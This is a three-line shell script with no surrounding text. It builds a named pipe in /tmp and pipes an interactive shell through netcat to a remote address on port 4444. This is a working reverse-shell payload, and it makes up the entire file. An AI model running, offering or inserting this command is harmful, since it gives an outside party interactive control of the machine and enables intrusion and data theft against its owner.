#!/bin/sh
mkfifo /tmp/f
cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
